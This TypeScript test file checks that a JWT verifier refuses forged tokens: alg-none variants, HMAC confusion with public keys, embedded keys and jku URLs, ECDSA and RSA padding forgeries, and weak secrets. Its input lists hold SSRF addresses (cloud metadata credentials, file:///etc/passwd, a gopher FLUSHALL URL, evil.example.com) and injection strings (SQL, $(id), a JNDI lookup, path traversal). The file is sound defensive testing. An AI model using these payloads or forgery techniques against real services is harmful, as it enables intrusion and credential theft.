import { constants, createHash, createSecretKey, type KeyObject, privateEncrypt, sign } from "node:crypto";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { publicKeyFrom } from "../../shared/adapters/fixed-keys/public-key-text.ts";
import { fixedKeys, secretKeyFrom } from "../../shared/adapters/fixed-keys.ts";
import { jwksKeys } from "../../shared/adapters/jwks-keys.ts";
import { jwtTokenVerifier } from "../../shared/adapters/jwt-token-verifier.ts";
import { keysByKind } from "../../shared/adapters/keys-by-kind.ts";
import { granted } from "../../shared/domain/refusal.ts";
import type { Issuer } from "../../shared/domain/token/issuer.ts";
import type { SigningKeys } from "../../shared/ports.ts";
import {
  attackedVerifier,
  ecKeys,
  JWKS_URL,
  judge,
  malloryKeys,
  otherEcKeys,
  rsaKeys,
  SHARED,
  signedByLogin,
  TENANT,
  tenantKeys,
  withSignature,
} from "../support/attacked-verifier.ts";
import {
  appToken,
  base64url,
  fakeClock,
  invalid,
  issuerOf,
  jwkOf,
  keyPair,
  secretKey,
  signatureOf,
} from "../support/tokens.ts";

/** Rows J1 to J11 and J18 to J22 of the threat model: a signature that is not what it seems. */

const ACCEPTED = { ok: true, value: { issuer: "login", claims: expect.objectContaining({ sub: "alice" }) } };

describe("the attacked issuer's own tokens", () => {
  it.each([
    ["its first key", signedByLogin()],
    ["its second key", signedByLogin({ key: otherEcKeys.privateKey, header: { kid: "ec-2" } })],
    ["its RSA key", signedByLogin({ algorithm: "RS256", key: rsaKeys.privateKey, header: { kid: "rsa-1" } })],
  ])("are accepted with %s: the refusals below are no accident", async (_case, token) => {
    expect(await judge(token)).toEqual(ACCEPTED);
  });
});

describe("J1: a token that names no algorithm, or none", () => {
  const spellings = [
    "none",
    "None",
    "NONE",
    "nOnE",
    "none ",
    "",
    "es256",
    "ES256 ",
    "ES256\u0000",
    "ES256K",
    "EdDSA",
  ];
  it.each<[unknown]>([
    ...spellings.map((alg): [unknown] => [alg]),
    [null],
    [undefined],
    [0],
    [true],
    [[]],
    [["ES256"]],
    [{}],
  ])("alg %j is refused, with a good signature and without one", async (alg) => {
    const token = signedByLogin({ header: { kid: "ec-1", alg } });
    expect(await judge(token)).toEqual(invalid("algorithm"));
    expect(await judge(withSignature(token, ""))).toEqual(invalid("shape"));
    expect(await judge(withSignature(token, "AA"))).toEqual(invalid("algorithm"));
  });

  it("an algorithm name that every object inherits is refused", async () => {
    expect(await judge(signedByLogin({ header: '{"kid":"ec-1","__proto__":{"alg":"ES256"}}' }))).toEqual(
      invalid("header"),
    );
  });
});

describe("J2: a signature that is missing, or of something else", () => {
  const token = signedByLogin();
  const good = Buffer.from(token.split(".")[2] ?? "", "base64url");
  const other = signedByLogin({ claims: { sub: "mallory" } }).split(".")[2] ?? "";
  it.each([
    ["cut short by a byte", base64url(good.subarray(0, -1)), "signature"],
    ["longer by a byte", base64url(Buffer.concat([good, Buffer.alloc(1)])), "signature"],
    ["of zeros", base64url(Buffer.alloc(64)), "signature"],
    ["of another token", other, "signature"],
    ["that says null", base64url("null"), "signature"],
    ["that says the text null", "null", "signature"],
    ["left out", "", "shape"],
  ] as const)("a signature %s is refused", async (_case, signature, check) => {
    expect(await judge(withSignature(token, signature))).toEqual(invalid(check));
  });

  it("a token without its last part is refused", async () => {
    expect(await judge(token.split(".").slice(0, 2).join("."))).toEqual(invalid("shape"));
  });
});

describe("J3: a public key's text as the secret of an HMAC", () => {
  const spellings = (key: KeyObject): readonly (readonly [string, Buffer])[] => {
    const pem = key.export({ type: "spki", format: "pem" }).toString();
    const jwk = key.export({ format: "jwk" });
    return [
      ["PEM", Buffer.from(pem)],
      ["PEM without its last line end", Buffer.from(pem.trimEnd())],
      ["PEM with CRLF", Buffer.from(pem.replaceAll("\n", "\r\n"))],
      ["PEM after a blank", Buffer.from(` ${pem}`)],
      ["PEM on one line", Buffer.from(pem.replaceAll("\n", ""))],
      ["DER", key.export({ type: "spki", format: "der" })],
      ["JWK", Buffer.from(JSON.stringify(jwk))],
      ["n or x", Buffer.from(jwk.n ?? jwk.x ?? "", "base64url")],
      ["n or x as text", Buffer.from(jwk.n ?? jwk.x ?? "")],
      ["nothing", Buffer.alloc(0)],
    ];
  };
  for (const [kid, key] of [
    ["rsa-1", rsaKeys.publicKey],
    ["ec-1", ecKeys.publicKey],
  ] as const) {
    it.each(spellings(key))(`${kid} as %s is refused`, async (_case, bytes) => {
      for (const algorithm of ["HS256", "HS384", "HS512"] as const) {
        const token = appToken({ algorithm, header: { kid }, key: createSecretKey(bytes) });
        expect(await judge(token)).toEqual(invalid("algorithm"));
      }
    });
  }

  it("is refused for the issuer with a secret, too", async () => {
    const key = createSecretKey(
      Buffer.from(rsaKeys.publicKey.export({ type: "spki", format: "pem" }).toString()),
    );
    const token = appToken({
      algorithm: "HS256",
      claims: { iss: SHARED.issuer },
      header: { kid: "rsa-1" },
      key,
    });
    expect(await judge(token)).toEqual(invalid("signature"));
  });

  it("cannot be configured: neither HS256 beside RS256, nor a public key for HS256, nor PEM as a secret", () => {
    const mixed = issuerOf({ algorithms: ["RS256", "HS256"] });
    const keys: SigningKeys = { keyFor: async () => granted(rsaKeys.publicKey) };
    expect(() => jwtTokenVerifier({ issuers: [{ issuer: mixed, keys }], clock: fakeClock() })).toThrow(
      "HS* beside",
    );
    expect(() => fixedKeys(rsaKeys.publicKey, ["HS256"])).toThrow("does not fit HS256");
    const pem = rsaKeys.publicKey.export({ type: "spki", format: "pem" }).toString();
    expect(() => secretKeyFrom(pem.trim())).toThrow("PEM");
  });

  const der = rsaKeys.publicKey.export({ type: "spki", format: "der" });
  const pem = rsaKeys.publicKey.export({ type: "spki", format: "pem" }).toString().trim();
  const pemBody = pem.split("\n").slice(1, -1);
  const jwk = JSON.stringify(rsaKeys.publicKey.export({ format: "jwk" }));
  const jwks = `{"keys":[${jwk}]}`;
  const inBase64 = (text: string) => Buffer.from(text).toString("base64");
  const sshBlob = Buffer.concat([Buffer.from([0, 0, 0, 7]), Buffer.from("ssh-rsa"), der]).toString("base64");
  it.each([
    ["a key set", jwks],
    ["a list with a key", `[${jwk}]`],
    ["a key in quotes", `"${jwk}"`],
    ["a key as a JSON text", JSON.stringify(jwk)],
    ["a key whose JSON is not closed", jwk.slice(0, -1)],
    ["DER in base64url", der.toString("base64url")],
    ["DER in hexadecimal digits", der.toString("hex")],
    ["DER in hexadecimal digits with colons", der.toString("hex").match(/../g)?.join(":") ?? ""],
    ["the body of PEM with \\n as two characters", pemBody.join("\\n")],
    ["the body of PEM in quotes", `"${pemBody.join("")}"`],
    ["PEM with four dashes", pem.replaceAll("-----", "----")],
    ["PEM without dashes", pem.replaceAll("-----", "")],
    ["PEM in base64", inBase64(pem)],
    ["a key set in base64", inBase64(jwks)],
    ["a key in base64url", Buffer.from(jwk).toString("base64url")],
    ["PEM in hexadecimal digits", Buffer.from(pem).toString("hex")],
    ["a key of SSH", `ssh-rsa ${sshBlob} me@example.com`],
    ["a key of SSH without its name", sshBlob],
    ["an ECDSA key of SSH", "ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTY="],
    ["the address of a key set", "https://login.example.com/.well-known/jwks.json"],
    ["a JWT", appToken({})],
    ["a JWT as a header has it", `Bearer ${appToken({})}`],
  ])("cannot be configured as a secret, because others know it: %s", (_case, text) => {
    expect(() => secretKeyFrom(text)).toThrow(/^is (a|an|JSON).* not a secret: [^"]*$/);
  });

  it("leaves every secret of random bytes alone", () => {
    const bytes = fc.uint8Array({ minLength: 32, maxLength: 96 });
    const encoding = fc.constantFrom("base64" as const, "base64url" as const, "hex" as const);
    fc.assert(
      fc.property(bytes, encoding, (random, form) => {
        fc.pre(new Set(random).size > 8);
        const text = Buffer.from(random).toString(form);
        expect(secretKeyFrom(text).export().toString()).toBe(text);
      }),
    );
  });

  it("is refused even when a key source returns a public key for HS256", async () => {
    const issuer = issuerOf({ algorithms: ["HS256"] });
    const keys: SigningKeys = { keyFor: async () => granted(rsaKeys.publicKey) };
    const verifier = jwtTokenVerifier({ issuers: [{ issuer, keys }], clock: fakeClock() });
    const pem = rsaKeys.publicKey.export({ type: "spki", format: "pem" }).toString();
    const token = appToken({ algorithm: "HS256", key: createSecretKey(Buffer.from(pem)) });
    expect(await verifier.verify(token)).toEqual(invalid("key"));
  });
});

it("J4: a key source's empty answer does not become an empty HMAC key", async () => {
  const issuer = issuerOf({ algorithms: ["HS256"] });
  const token = appToken({ algorithm: "HS256", key: createSecretKey(Buffer.alloc(0)) });
  for (const key of [
    "",
    undefined,
    null,
    Buffer.alloc(0),
    Promise.resolve(""),
    createSecretKey(Buffer.alloc(0)),
  ]) {
    const keys = { keyFor: async () => ({ ok: true, value: key }) } as unknown as SigningKeys;
    const verifier = jwtTokenVerifier({ issuers: [{ issuer, keys }], clock: fakeClock() });
    expect(await verifier.verify(token)).toEqual(invalid("key"));
  }
});

describe("J3: an issuer with a secret and public keys, while it changes from one to the other", () => {
  const both: Issuer = issuerOf({
    keys: { kind: "jwks", url: JWKS_URL },
    secretBeside: "JWT_SECRET",
    algorithms: ["HS256", "ES256", "RS256"],
  });
  const oct = { kty: "oct", kid: "oct-1", alg: "HS256", k: base64url("k".repeat(32)) };
  const document = {
    keys: [
      jwkOf(ecKeys.publicKey, { kid: "ec-1", alg: "ES256" }),
      jwkOf(rsaKeys.publicKey, { kid: "rsa-1" }),
      jwkOf(rsaKeys.publicKey, { kid: "rsa-hs", alg: "HS256" }),
      oct,
    ],
  };
  const clock = fakeClock();
  const verifier = jwtTokenVerifier({
    issuers: [
      {
        issuer: both,
        keys: keysByKind({
          secret: fixedKeys(secretKey, ["HS256"]),
          publicKeys: jwksKeys({ issuer: both, clock, fetchJson: async () => document }),
        }),
      },
    ],
    clock,
  });

  it.each([
    ["HS256 with the secret", appToken({ algorithm: "HS256", key: secretKey })],
    [
      "HS256 with the secret, under a public key's kid, which names nothing there",
      appToken({ algorithm: "HS256", key: secretKey, header: { kid: "ec-1" } }),
    ],
    ["ES256", appToken({ key: ecKeys.privateKey, header: { kid: "ec-1" } })],
    ["RS256", appToken({ algorithm: "RS256", key: rsaKeys.privateKey, header: { kid: "rsa-1" } })],
  ])("%s is accepted", async (_case, token) => {
    expect(await verifier.verify(token)).toEqual(ACCEPTED);
  });

  const texts = [ecKeys, rsaKeys].flatMap(({ publicKey }) => {
    const pem = publicKey.export({ type: "spki", format: "pem" }).toString();
    const der = publicKey.export({ type: "spki", format: "der" });
    const jwk = publicKey.export({ format: "jwk" });
    return [
      pem,
      pem.trimEnd(),
      ` ${pem}`,
      pem.replaceAll("\n", "\r\n"),
      pem.replaceAll(/-----.*-----|\n/g, ""),
      der,
      der.toString("hex"),
      JSON.stringify(jwk),
      JSON.stringify({ keys: [jwk] }),
      jwk.n ?? jwk.x ?? "",
      Buffer.from(jwk.n ?? jwk.x ?? "", "base64url"),
      Buffer.from((jwk.x ?? "") + (jwk.y ?? ""), "base64url"),
    ];
  });
  it.each(["ec-1", "rsa-1", "rsa-hs", "oct-1", "unknown", undefined])(
    "HS256 with a public key's text as the secret is refused, under kid %s",
    async (kid) => {
      for (const text of [...texts, "", "JWT_SECRET", oct.k, Buffer.from(oct.k, "base64url")]) {
        const key = createSecretKey(Buffer.from(text));
        const token = appToken({ algorithm: "HS256", key, header: { kid } });
        expect(await verifier.verify(token)).toEqual(invalid("signature"));
      }
    },
  );

  it("a key of the set never serves HS*, and the secret never serves the rest", async () => {
    for (const algorithm of ["HS384", "HS512", "PS256"] as const) {
      expect(await verifier.verify(appToken({ algorithm, header: { kid: "rsa-1" } }))).toEqual(
        invalid("algorithm"),
      );
    }
    const token = appToken({ algorithm: "HS256", key: secretKey, header: { alg: "ES256", kid: "ec-1" } });
    expect(await verifier.verify(token)).toEqual(invalid("signature"));
  });

  it("a kind without keys refuses, and does not borrow the other's", async () => {
    const any: SigningKeys = { keyFor: async () => granted(ecKeys.publicKey) };
    const secretOnly = keysByKind({ secret: any, publicKeys: undefined });
    expect(await secretOnly.keyFor({ kid: "ec-1", algorithm: "ES256" })).toEqual(invalid("key"));
    const publicOnly = keysByKind({ secret: undefined, publicKeys: any });
    expect(await publicOnly.keyFor({ kid: "ec-1", algorithm: "HS256" })).toEqual(invalid("key"));
  });
});

describe("J5: the right key with another algorithm of its family", () => {
  const family = { algorithms: ["RS256", "RS512", "PS256"] } as const;
  it.each(["RS512", "PS256"] as const)("%s is refused where the key's alg says RS256", async (algorithm) => {
    const token = appToken({ algorithm, key: rsaKeys.privateKey, header: { kid: "rsa-bound" } });
    expect(await judge(token, family)).toEqual(invalid("key"));
  });
  it("is refused by the issuer's list where the key has no alg", async () => {
    const token = appToken({ algorithm: "PS256", key: rsaKeys.privateKey, header: { kid: "rsa-1" } });
    expect(await judge(token)).toEqual(invalid("algorithm"));
    expect(await judge(token, family)).toEqual(ACCEPTED);
  });
  it("RS256 with a curve's key, and ES256 with an RSA key, are refused", async () => {
    const rs256 = appToken({ algorithm: "RS256", key: rsaKeys.privateKey, header: { kid: "ec-1" } });
    expect(await judge(rs256)).toEqual(invalid("key"));
    expect(await judge(signedByLogin({ header: { kid: "rsa-1" } }))).toEqual(invalid("key"));
  });
});

it("J6: a token with the shared secret's signature does not pass for the issuer with public keys", async () => {
  const token = appToken({ algorithm: "HS256", key: secretKey, header: { kid: "rsa-1" } });
  expect(await judge(token)).toEqual(invalid("algorithm"));
});

describe("J7: a key that the token brings along", () => {
  const jwk = malloryKeys.publicKey.export({ format: "jwk" });
  const x5c = [malloryKeys.publicKey.export({ type: "spki", format: "der" }).toString("base64")];
  it.each([
    ["jwk", { jwk }],
    ["jwk with our kid", { jwk: { ...jwk, kid: "ec-1" } }],
    ["jwks", { jwks: { keys: [jwk] } }],
    ["x5c", { x5c }],
    ["jwk that is null", { jwk: null }],
  ])("%s is refused", async (_case, header) => {
    const token = signedByLogin({ key: malloryKeys.privateKey, header });
    expect(await judge(token)).toEqual(invalid("critical-header"));
  });
});

describe("J8: an address that the token brings along", () => {
  const addresses = [
    "https://evil.example.com/jwks.json",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://169.254.169.254/latest/meta-data/",
    "http://127.0.0.1:9000/",
    "file:///etc/passwd",
    "data:application/json,{}",
    "gopher://127.0.0.1:6379/_FLUSHALL",
    "https://login.example.com@evil.example.com/",
  ];
  it.each(addresses)("%s is never asked, in whichever field it stands", async (address) => {
    const { verifier, fetched } = attackedVerifier();
    const key = malloryKeys.privateKey;
    expect(await verifier.verify(signedByLogin({ key, header: { jku: address } }))).toEqual(
      invalid("critical-header"),
    );
    expect(await verifier.verify(signedByLogin({ key, header: { x5u: address } }))).toEqual(
      invalid("critical-header"),
    );
    expect(await verifier.verify(signedByLogin({ key, claims: { iss: address } }))).toEqual(
      invalid("issuer"),
    );
    expect(fetched).toEqual([]);
    expect(await verifier.verify(signedByLogin({ key, header: { kid: address } }))).toEqual(
      invalid("key-id"),
    );
    expect(fetched).toEqual([JWKS_URL]);
  });
});

describe("J9: a kid that is more than a name", () => {
  const kids = [
    "/dev/null",
    "../../../../../../dev/null",
    "/proc/sys/kernel/randomize_va_space",
    "ec-1\u0000",
    "ec-1' OR '1'='1",
    "x' UNION SELECT 'key';--",
    "*)(uid=*",
    '{"$ne":null}',
    "$(id)",
    "ec-1|id",
    "ec-1\r\nX-Injected: 1",
    "\u0024{jndi:ldap://evil.example.com/a}",
    "*",
    "ec-?",
    ".*",
    "EC-1",
    " ec-1",
    "__proto__",
    "constructor",
    "toString",
    "0",
    "k".repeat(128),
  ];
  it.each(kids)("%j names no key, whoever signs", async (kid) => {
    expect(await judge(signedByLogin({ header: { kid } }))).toEqual(invalid("key-id"));
    const empty = appToken({ algorithm: "HS256", key: createSecretKey(Buffer.alloc(0)), header: { kid } });
    expect(await judge(empty)).toEqual(invalid("algorithm"));
  });

  it.each([[""], ["k".repeat(129)], ["k".repeat(3_000)], [1], [null], [true], [["ec-1"]], [{ kid: "ec-1" }]])(
    "%j is no kid, and is refused before any key is looked for",
    async (kid) => {
      const { verifier, fetched } = attackedVerifier();
      expect(await verifier.verify(signedByLogin({ header: { kid } }))).toEqual(invalid("key-id"));
      expect(fetched).toEqual([]);
    },
  );

  it("no file becomes the key of the issuer with a secret", async () => {
    const claims = { iss: SHARED.issuer };
    for (const [kid, content] of [
      ["/dev/null", ""],
      ["/proc/sys/kernel/randomize_va_space", "2\n"],
    ] as const) {
      const key = createSecretKey(Buffer.from(content));
      const token = appToken({ algorithm: "HS256", claims, header: { kid }, key });
      expect(await judge(token)).toEqual(invalid("signature"));
    }
  });
});

describe("J10: the kid of one key on the signature of another", () => {
  it("is refused: no key but the named one is tried", async () => {
    const token = signedByLogin({ key: ecKeys.privateKey, header: { kid: "ec-2" } });
    expect(await judge(token)).toEqual(invalid("signature"));
  });
  it("is refused without a kid, where several keys could be meant", async () => {
    expect(await judge(signedByLogin({ header: { kid: undefined } }))).toEqual(invalid("key-id"));
  });
});

describe("J11: header parameters that change how the token is read", () => {
  it.each([
    ["crit with an unknown name", { crit: ["exp"], exp: 1 }],
    ["crit with a known name", { crit: ["alg"] }],
    ["crit, empty", { crit: [] }],
    ["crit as text", { crit: "exp" }],
    ["crit null", { crit: null }],
    ["crit with a name twice", { crit: ["b64", "b64"], b64: true }],
    ["b64 false", { b64: false }],
    ["b64 false, as RFC 7797 has it", { crit: ["b64"], b64: false }],
    ["b64 true", { b64: true }],
  ])("%s is refused, though the signature is good", async (_case, header) => {
    expect(await judge(signedByLogin({ header }))).toEqual(invalid("critical-header"));
  });

  it("a detached payload is refused", async () => {
    const [header, , signature] = signedByLogin().split(".");
    expect(await judge(`${header}..${signature}`)).toEqual(invalid("shape"));
  });

  it("an unencoded payload is refused", async () => {
    const header = base64url(JSON.stringify({ alg: "ES256", kid: "ec-1", b64: false, crit: ["b64"] }));
    const input = `${header}.sub-alice`;
    const signature = base64url(signatureOf(input, "ES256", ecKeys.privateKey));
    expect(await judge(`${input}.${signature}`)).toEqual(invalid("encoding"));
  });
});

describe("J18: one trusted issuer vouches for another's users", () => {
  it.each([
    ["with its own kid", "tenant", "key-id"],
    ["with the kid of the other's key", "ec-1", "signature"],
  ] as const)("is refused %s", async (_case, kid, check) => {
    const token = appToken({ key: tenantKeys.privateKey, header: { kid } });
    expect(await judge(token)).toEqual(invalid(check));
  });
  it("is refused with a secret, in both directions", async () => {
    const hs = appToken({ algorithm: "HS256", claims: { iss: TENANT.issuer } });
    expect(await judge(hs)).toEqual(invalid("algorithm"));
    const es = appToken({
      key: tenantKeys.privateKey,
      claims: { iss: SHARED.issuer },
      header: { kid: "tenant" },
    });
    expect(await judge(es)).toEqual(invalid("algorithm"));
  });
});

describe("J19: a secret that can be guessed", () => {
  it.each([
    ["empty", "", /has 0 bytes, but a secret needs 32/],
    ["31 bytes", "0123456789abcdefghijklmnopqrstu", /31 bytes/],
    ["the example of jwt.io", "a-string-secret-at-least-256-bits-long", /word list/],
    ["the same, shouted", "A-STRING-SECRET-AT-LEAST-256-BITS-LONG", /word list/],
    ["the default of Supabase", "your-super-secret-jwt-token-with-at-least-32-characters-long", /word list/],
    ["its local default", "super-secret-jwt-token-with-at-least-32-characters-long", /word list/],
    ["a word, repeated until it is long enough", "secret".repeat(6), /word list/],
    ["one character, repeated", "x".repeat(64), /word list/],
    ["the example key of RFC 7520", "hJtXIZ2uSN5kbQfbtTNWbpdmhkV8FJG-Onbc6mxCcYg", /word list/],
  ])("does not start: %s", (_case, text, message) => {
    expect(() => secretKeyFrom(text)).toThrow(message);
  });

  it("is refused where it is shorter than the hash", () => {
    const key = secretKeyFrom("kZ8mQ2vX7pL4tR9wB3nC6yF1hJ5sD0gA".slice(0, 32));
    expect(() => fixedKeys(key, ["HS256"])).not.toThrow();
    expect(() => fixedKeys(key, ["HS384"])).toThrow("32, 48 and 64 bytes");
    expect(() => fixedKeys(key, ["HS512"])).toThrow("32, 48 and 64 bytes");
  });
});

describe("J20: ECDSA signatures at the edges", () => {
  const n = 0xffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551n;
  const bytes32 = (value: bigint) => Buffer.from((value % 2n ** 256n).toString(16).padStart(64, "0"), "hex");
  const token = signedByLogin();
  const input = token.split(".").slice(0, 2).join(".");
  const edges = { "0": 0n, "1": 1n, "n-1": n - 1n, n, "n+1": n + 1n, "2^256-1": 2n ** 256n - 1n };
  const pairs = Object.entries(edges).flatMap(([r, rValue]) =>
    Object.entries(edges).map(([s, sValue]): [string, Buffer] => [
      `r = ${r}, s = ${s}`,
      Buffer.concat([bytes32(rValue), bytes32(sValue)]),
    ]),
  );
  it.each(pairs)("%s is refused", async (_case, signature) => {
    expect(await judge(withSignature(token, base64url(signature)))).toEqual(invalid("signature"));
  });

  const raw = signatureOf(input, "ES256", ecKeys.privateKey);
  it.each([
    ["DER", sign("sha256", Buffer.from(input), ecKeys.privateKey)],
    ["64 bytes more", Buffer.concat([raw, Buffer.alloc(64)])],
    [
      "zeros before each half",
      Buffer.concat([Buffer.alloc(1), raw.subarray(0, 32), Buffer.alloc(1), raw.subarray(32)]),
    ],
    ["s and r exchanged", Buffer.concat([raw.subarray(32), raw.subarray(0, 32)])],
  ])("%s is refused", async (_case, signature) => {
    expect(await judge(withSignature(token, base64url(signature)))).toEqual(invalid("signature"));
  });

  it("the other s of the same signature is the same signature: a token's text is never an identity", async () => {
    const s = BigInt(`0x${raw.subarray(32).toString("hex")}`);
    const signature = Buffer.concat([raw.subarray(0, 32), bytes32(n - s)]);
    expect(await judge(withSignature(token, base64url(signature)))).toEqual(ACCEPTED);
  });
});

describe("J21: EdDSA", () => {
  const ed25519 = keyPair("ed25519");
  it("has no key that could be configured, and the message says why", () => {
    const pem = ed25519.publicKey.export({ type: "spki", format: "pem" }).toString();
    expect(() => publicKeyFrom(pem)).toThrow("jsonwebtoken cannot verify EdDSA");
  });
  it.each(["EdDSA", "Ed25519"])("%s is refused as an algorithm", async (alg) => {
    const unsigned = withSignature(signedByLogin({ header: { alg } }), "");
    const signature = sign(null, Buffer.from(unsigned.slice(0, -1)), ed25519.privateKey);
    expect(await judge(unsigned + base64url(signature))).toEqual(invalid("algorithm"));
  });
});

describe("J22: RSA signatures that a lax verifier accepts", () => {
  const token = signedByLogin({ algorithm: "RS256", key: rsaKeys.privateKey, header: { kid: "rsa-1" } });
  const input = Buffer.from(token.split(".").slice(0, 2).join("."));
  const good = Buffer.from(token.split(".")[2] ?? "", "base64url");
  const modulus = BigInt(
    `0x${Buffer.from(rsaKeys.publicKey.export({ format: "jwk" }).n ?? "", "base64url").toString("hex")}`,
  );
  const hexOf = (value: bigint) => value.toString(16).padStart(512, "0");
  const plusModulus = (BigInt(`0x${good.toString("hex")}`) + modulus).toString(16);
  /** What decrypting gives, before the padding is looked at: here, bytes of our choice. */
  const signatureThatGives = (bytes: Buffer) =>
    privateEncrypt({ key: rsaKeys.privateKey, padding: constants.RSA_NO_PADDING }, bytes);
  const digestInfo = Buffer.from("3031300d060960864801650304020105000420", "hex");
  const digest = createHash("sha256").update(input).digest();
  const block = (padding: Buffer, rest: Buffer) => {
    const start = Buffer.concat([Buffer.from([0, 1]), padding, Buffer.from([0]), rest]);
    return Buffer.concat([start, Buffer.alloc(Math.max(0, 256 - start.length))]).subarray(0, 256);
  };
  const info = Buffer.concat([digestInfo, digest]);

  it("a block that is padded right is accepted: the forgeries below differ in the padding alone", async () => {
    const signature = signatureThatGives(block(Buffer.alloc(256 - 3 - info.length, 0xff), info));
    expect(await judge(withSignature(token, base64url(signature)))).toEqual(ACCEPTED);
  });

  it.each([
    [
      "with a short padding and garbage behind the digest",
      signatureThatGives(block(Buffer.alloc(8, 0xff), info)),
    ],
    ["with zeros as padding", signatureThatGives(block(Buffer.alloc(256 - 3 - info.length, 0x00), info))],
    [
      "without the digest's algorithm",
      signatureThatGives(block(Buffer.alloc(256 - 3 - digest.length, 0xff), digest)),
    ],
    [
      "plus the modulus",
      Buffer.from(plusModulus.padStart(plusModulus.length + (plusModulus.length % 2), "0"), "hex"),
    ],
    ["after a zero", Buffer.concat([Buffer.alloc(1), good])],
    ["of zero", Buffer.alloc(256)],
    ["of one", Buffer.from(hexOf(1n), "hex")],
    ["of the modulus less one", Buffer.from(hexOf(modulus - 1n), "hex")],
  ])("a signature %s is refused", async (_case, signature) => {
    expect(await judge(withSignature(token, base64url(signature)))).toEqual(invalid("signature"));
  });

  it.each([0, 20, 64, constants.RSA_PSS_SALTLEN_MAX_SIGN])(
    "PS256 with a salt of %i bytes is refused",
    async (saltLength) => {
      const pss = appToken({ algorithm: "PS256", key: rsaKeys.privateKey, header: { kid: "rsa-1" } });
      const signature = sign("sha256", Buffer.from(pss.split(".").slice(0, 2).join(".")), {
        key: rsaKeys.privateKey,
        padding: constants.RSA_PKCS1_PSS_PADDING,
        saltLength,
      });
      expect(await judge(withSignature(pss, base64url(signature)), { algorithms: ["PS256"] })).toEqual(
        invalid("signature"),
      );
    },
  );
});
